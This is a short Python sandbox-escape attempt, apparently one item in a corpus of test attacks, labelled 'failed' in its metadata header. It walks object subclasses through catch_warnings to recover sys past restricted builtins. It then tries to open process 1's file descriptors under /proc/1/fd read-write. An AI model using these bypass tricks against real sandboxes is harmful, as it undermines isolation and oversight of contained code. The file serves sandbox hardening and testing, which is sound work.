# /// attack
# rows = [66]
# title = "talk to process 1 over its status socket"
# verdict = "failed"
# ///
sys = next(
    c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "catch_warnings"
)()._module.sys

os, socket = sys.modules["os"], sys.modules["importlib"].import_module("socket")
for number in os.listdir("/proc/1/fd") if os.access("/proc/1/fd", os.R_OK) else []:
    try:
        os.open(f"/proc/1/fd/{number}", os.O_RDWR)
        print("opened")
    except OSError:
        pass
